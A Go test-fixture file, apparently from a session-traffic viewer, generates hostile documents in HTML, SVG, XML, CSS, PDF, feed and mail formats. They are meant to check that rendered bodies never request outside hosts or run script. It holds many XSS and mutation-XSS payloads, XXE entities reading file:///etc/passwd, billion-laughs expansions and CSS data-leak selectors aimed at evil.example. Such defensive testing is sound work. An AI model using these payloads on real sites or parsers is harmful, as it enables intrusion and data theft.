package hostile

import (
	"strconv"
	"strings"

	"flowpane/viewer/session/har"
	"flowpane/viewer/session/mitm"
	"flowpane/viewer/session/pbstream"
	"flowpane/viewer/session/sessiondb"
)

// A Document is a body that asks for things as soon as it is shown, and
// says [Shown] where a person sees it.
type Document struct {
	ContentType string
	Body        string
}

// Shown is what each [Document] that a browser can draw has as its text.
const Shown = "Shown text"

// Documents returns documents that ask home, and the hosts evil.example and
// asked.example, for something in every way that a browser knows: when they are
// drawn, by script, and when they are clicked or sent.
func Documents(home string) []Document {
	docs := []Document{
		{"text/html", page}, {"application/xhtml+xml", xhtml}, {"image/svg+xml", drawing}, {"text/xml", entities},
		{"text/css", style}, {"text/javascript", program}, {"text/html", smuggled}, {"multipart/related; boundary=b", mail},
		{"application/rss+xml", feed}, {"application/manifest+json", `{"icons":[{"src":"HOME/manifest"}],"start_url":"HOME/start"}`},
		{"application/pdf", portable}, {"text/x-component", "<public:component><script>" + script + "</script>"},
		{"application/json", `{"html":"<img src=HOME/json-img onerror=` + script + `>","__proto__":{"polluted":1},"url":"javascript:` + script + `"}`},
		{"text/vtt", "WEBVTT\nSTYLE\n::cue { background: url(HOME/vtt) }\n"}, {"application/vnd.apple.mpegurl", "#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI=\"HOME/key\"\nHOME/segment.ts\n"},
		{"text/html; charset=utf-7", "+ADw-script+AD4-" + script + "+ADw-/script+AD4-"},
		{"text/html; charset=utf-16le", wide("<img src=HOME/wide onerror=" + script + ">")},
	}
	for i := range docs {
		docs[i].Body = strings.NewReplacer("HOME", home, "BARE", strings.TrimPrefix(home, "http:"), "RUN", script).Replace(docs[i].Body)
	}
	return docs
}

func wide(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		b.Write([]byte{c, 0})
	}
	return b.String()
}

const page = `<!doctype html><html manifest="HOME/appcache"><head profile="HOME/profile"><base href="http://evil.example/" target=_top>
<meta http-equiv=refresh content="0;url=HOME/refresh"><META HTTP-EQUIV="Refresh" content="0; url=javascript:RUN"><meta http-equiv="set-cookie" content="hostile=1">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'; report-uri HOME/report"><meta http-equiv="Link" content="<HOME/link-header>; rel=preload; as=image">
<meta http-equiv="x-dns-prefetch-control" content="on"><meta name="referrer" content="unsafe-url"><meta property="og:image" content="HOME/og">
<link rel=stylesheet href="HOME/css"><link rel="dns-prefetch" href="//evil.example"><link rel=preconnect href="http://evil.example"><link/rel=preconnect href="HOME">
<link rel=prefetch href="HOME/prefetch"><link rel=prerender href="HOME/prerender"><link rel=preload as=image href="HOME/preload"><link rel=modulepreload href="HOME/module">
<link rel=icon href="HOME/icon"><link rel="apple-touch-icon" href="HOME/touch"><link rel=manifest href="HOME/manifest"><link rel=import href="HOME/import"><link rel=alternate type="application/rss+xml" href="HOME/feed">
<link rel=expect href="#never" blocking=render><link rel="compression-dictionary" href="HOME/dictionary"><link rel=pingback href="HOME/pingback"><link rel=search href="HOME/search" type="application/opensearchdescription+xml">
<script type=importmap>{"imports":{"x":"HOME/importmap"}}</script><script type=module>import "x"; import "HOME/module-import"</script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["HOME/speculated"]}],"prerender":[{"source":"list","urls":["HOME/prerendered"]}]}</script>
<style>@import "HOME/import-css"; @import url(//evil.example/import); @font-face { font-family: evil; src: url(HOME/font) }
body { background: url(HOME/background), -webkit-image-set(url(HOME/image-set) 1x), image-set("HOME/image-set-2" 1x); font-family: evil; cursor: url(HOME/cursor), auto; color: rgb(1, 2, 3) }
li { list-style-image: url(HOME/list) } p::before { content: url(HOME/content) } div { border-image: url(HOME/border) 1; mask-image: url(HOME/mask); filter: url(HOME/filter#f); clip-path: url(HOME/clip#c); shape-outside: url(HOME/shape) }
a { behavior: url(HOME/behavior); -moz-binding: url(HOME/binding) } input[value^=a] { background: url(HOME/leak-a) } @namespace url(HOME/namespace); @property --x { syntax: "<url>"; inherits: true; initial-value: url(HOME/property) }
@keyframes k { to { background: url(HOME/keyframe) } } p { animation: k 1s; background: paint(x); } ::cue { background: url(HOME/cue) } @container style(--x) { p { background: url(HOME/container) } }</style>
<script>RUN;alert(1);confirm(1);prompt(1);print();fetch("HOME/fetch");navigator.sendBeacon("HOME/beacon");new WebSocket("ws:BARE/socket");new EventSource("HOME/events");new Image().src="HOME/image";import("HOME/dynamic");open("HOME/open");location="HOME/location";
new RTCPeerConnection({iceServers:[{urls:"stun:evil.example"}]}).createDataChannel("x");new Worker("HOME/worker");navigator.serviceWorker.register("HOME/sw.js");CSS.paintWorklet.addModule("HOME/worklet");postMessage("hostile","*");top.postMessage({flowpane:"open"},"*")</script>
<script src="HOME/script" async></script><script nomodule src="HOME/nomodule"></script></head>
<body onload="RUN" onpageshow="RUN" background="HOME/body" onfocus="RUN"><p id=p>Shown text</p><h1 style="background:url(HOME/inline)">h</h1>
<img src="HOME/img" onerror="RUN" srcset="HOME/srcset 2x" lowsrc="HOME/lowsrc" longdesc="HOME/longdesc" dynsrc="HOME/dynsrc"><img src=x onerror="RUN"><img src="//evil.example/img" loading=eager fetchpriority=high crossorigin=use-credentials attributionsrc="HOME/attribution"><image src="HOME/image-tag">
<picture><source srcset="HOME/picture"><img src="HOME/picture-img"></picture><img usemap=#m src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="><map name=m><area href="HOME/area" ping="HOME/area-ping" shape=default></map>
<video src="HOME/video" poster="HOME/poster" autoplay></video><audio src="HOME/audio" autoplay></audio><video autoplay><source src="HOME/source"><track default src="HOME/track" kind=captions></video><bgsound src="HOME/bgsound">
<object data="HOME/object" type="image/svg+xml"></object><object classid="HOME/classid" codebase="HOME/codebase"></object><embed src="HOME/embed"><applet code="HOME/applet" archive="HOME/archive"></applet><object data="data:text/html,<script>RUN</script>"></object>
<iframe src="HOME/frame"></iframe><iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;&lt;img src=HOME/srcdoc&gt;"></iframe><iframe src="javascript:RUN"></iframe><iframe src="data:text/html,<img src=HOME/data-frame>"></iframe><frameset><frame src="HOME/frameset"></frameset><fencedframe></fencedframe><portal src="HOME/portal"></portal>
<svg width=10 height=10><image href="HOME/svg-image" xlink:href="HOME/xlink"/><use href="HOME/use#a"/><script>RUN</script><script href="HOME/svg-script"/><foreignObject><img src="HOME/foreign"><iframe src="HOME/foreign-frame"></iframe></foreignObject><a href="javascript:RUN"><text>x</text></a><animate attributeName=href to="HOME/animate"/><feImage href="HOME/feimage"/><style>@import "HOME/svg-css";</style></svg>
<math><mtext><a href="javascript:RUN" xlink:href="HOME/math">x</a></mtext><maction actiontype="statusline#HOME/maction">x</maction></math>
<form action="HOME/form" id=f method=post><input name=q value=abc autofocus onfocus="RUN"><input type=image src="HOME/input" formaction="HOME/formaction"><button formaction="javascript:RUN">x</button></form><form action="HOME/auto" method=get><input type=submit></form>
<a href="HOME/link" ping="HOME/ping" target=_blank style="position:fixed;inset:0" attributionsrc="HOME/attribution-link">link</a><a href="javascript:RUN" accesskey=x>x</a><a href="HOME/download" download>x</a><isindex action="HOME/isindex">
<table background="HOME/table"><td background="HOME/td">x</table><blockquote cite="HOME/cite">x</blockquote><q cite="HOME/q">x</q><ins cite="HOME/ins">x</ins><template shadowrootmode=open><img src="HOME/shadow"><style>@import "HOME/shadow-css";</style></template><noscript><img src="HOME/noscript"></noscript>
<details open ontoggle="RUN"><summary>x</summary></details><marquee onstart="RUN">x</marquee><dialog open onclose="RUN">x</dialog><input type=hidden popover oncontentvisibilityautostatechange="RUN" style="content-visibility:auto"><xss style="animation-name:k" onanimationstart="RUN">x</xss><keygen onfocus="RUN" autofocus><x-link rel=stylesheet href=HOME/x></body></html>`

// smuggled is meant for programs that change markup with less than a parser.
const smuggled = `<html><!--><img src=HOME/comment onerror=RUN>--><li<link rel=stylesheet href=HOME/nested>nk rel=preconnect href=HOME><me<meta>ta http-equiv=refresh content="0;url=HOME/nested-meta">
<` + "\x00" + `meta http-equiv=refresh content="0;url=HOME/nul"><lin` + "\x00" + `k rel=preconnect href=HOME/nul-link><ſcript>RUN</ſcript><lınk rel=preconnect href=HOME>
<svg><style><!--</style><img title="--><img src=HOME/mutated onerror=RUN>"></svg><noscript><p title="</noscript><img src=HOME/noscript-2 onerror=RUN>"></noscript><textarea></textarea><xmp><link rel=preconnect href=HOME></xmp>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=HOME/math onerror=RUN&gt;"></table></mtext></math><select><template><link rel=stylesheet href=HOME/template></template></select>
<svg xmlns:xlink=x><link xmlns="http://www.w3.org/1999/xhtml" rel=preconnect href=HOME /><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv=refresh content="0;url=HOME/svg-meta"/></svg><p>Shown text</p><plaintext><script>RUN</script>`

const xhtml = `<?xml version="1.0"?><?xml-stylesheet href="HOME/xml-css" type="text/css"?><?xml-stylesheet href="HOME/xsl" type="text/xsl"?>
<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "HOME/dtd" [<!ENTITY a SYSTEM "HOME/entity"><!ENTITY % p SYSTEM "HOME/parameter">]>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:h="http://www.w3.org/1999/xhtml"><head><h:link rel="preconnect" href="HOME"/><h:meta http-equiv="refresh" content="0;url=HOME/x-meta"/><h:script>RUN</h:script></head>
<body><p>Shown text</p><xi:include href="HOME/include"/><h:img src="HOME/h-img" onerror="RUN"/><![CDATA[<script>RUN</script>]]></body></html>`

const drawing = `<?xml version="1.0"?><?xml-stylesheet href="HOME/svg-sheet" type="text/css"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "HOME/svg-dtd" [<!ENTITY e SYSTEM "HOME/svg-entity"><!ENTITY l0 "lol"><!ENTITY l1 "&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;"><!ENTITY l2 "&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" onload="RUN" style="background:url(HOME/svg-style)"><style>@import url(HOME/svg-import); @font-face { font-family: x; src: url(HOME/svg-font) } text { font-family: x; fill: url(HOME/svg-paint#p) }</style>
<script>RUN</script><script xlink:href="HOME/svg-src"/><image href="HOME/svg-img" width="9" height="9"/><image xlink:href="//evil.example/x" width="9" height="9"/><use href="HOME/svg-use#x"/><a xlink:href="javascript:RUN" ping="HOME/svg-ping"><text y="20">Shown text</text></a>
<foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" src="HOME/svg-frame"/><img xmlns="http://www.w3.org/1999/xhtml" src="HOME/svg-foreign" onerror="RUN"/><link xmlns="http://www.w3.org/1999/xhtml" rel="preconnect" href="HOME"/></foreignObject>
<filter id="f"><feImage href="HOME/svg-fe"/></filter><rect width="9" height="9" filter="url(HOME/svg-filter#f)" mask="url(HOME/svg-mask#m)" cursor="url(HOME/svg-cursor)"/><animate attributeName="href" values="HOME/svg-animate" begin="0s" onbegin="RUN"/><set attributeName="onmouseover" to="RUN"/>
<handler xmlns="http://www.w3.org/2000/svg" type="text/javascript">RUN</handler><discard onbegin="RUN"/><color-profile xlink:href="HOME/svg-profile"/><video xlink:href="HOME/svg-video"/><text y="40">&l2;&e;</text></svg>`

const entities = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % d SYSTEM "HOME/dtd-parameter"> %d; <!ENTITY a SYSTEM "HOME/dtd-entity"><!ENTITY b SYSTEM "file:///etc/passwd">
<!ENTITY c0 "x"><!ENTITY c1 "&c0;&c0;&c0;&c0;&c0;&c0;&c0;&c0;&c0;&c0;"><!ENTITY c2 "&c1;&c1;&c1;&c1;&c1;&c1;&c1;&c1;&c1;&c1;"><!ENTITY c9 "&c9;">]><x xmlns:xi="http://www.w3.org/2001/XInclude" xsi:schemaLocation="x HOME/schema" xmlns:xsi="x"><xi:include href="HOME/xinclude"/>&a;&b;&c2;&c9;</x>`

const style = `@charset "utf-7"; @import "HOME/css-import"; body { background: url("HOME/css-background"); -ms-behavior: url(HOME/htc); width: expression(RUN) } </style><script>RUN</script>`

const program = `RUN; fetch("HOME/js-fetch"); import "HOME/js-import"; //# sourceMappingURL=HOME/source-map
</script><img src=HOME/js-img>`

const mail = "--b\r\nContent-Type: text/html\r\nContent-Location: HOME/mhtml\r\n\r\n<img src=HOME/mhtml-img onerror=RUN>\r\n--b--\r\n"

const feed = `<rss><channel><link>javascript:RUN</link><image><url>HOME/feed-image</url></image><item><enclosure url="HOME/enclosure"/><description>&lt;img src=HOME/feed-img onerror=RUN&gt;</description></item></channel></rss>`

const portable = "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(HOME/pdf)>>/AA<</O<</S/JavaScript/JS(RUN)>>>>>>endobj\ntrailer<</Root 1 0 R>>"

// documentInputs have the documents as bodies of responses.
func documentInputs(home string) []Input {
	var all flows
	for i, d := range Documents(home) {
		all = append(all, exchange("document-"+strconv.Itoa(i), d.ContentType, []byte(d.Body)))
	}
	n := len(all)
	return []Input{
		{Name: "mitm: documents", Records: n, Flows: n, Make: func() []byte { return written(mitm.Writer, all) }},
		{Name: "har: documents", Records: n, Flows: n, Make: func() []byte { return written(har.Writer, all) }},
		{Name: "sessiondb: documents", Records: n, Flows: n, Make: func() []byte { return written(sessiondb.Writer, all) }},
		{Name: "pbstream: documents", Records: n, Flows: n, Make: func() []byte { return written(pbstream.Writer, all) }},
	}
}
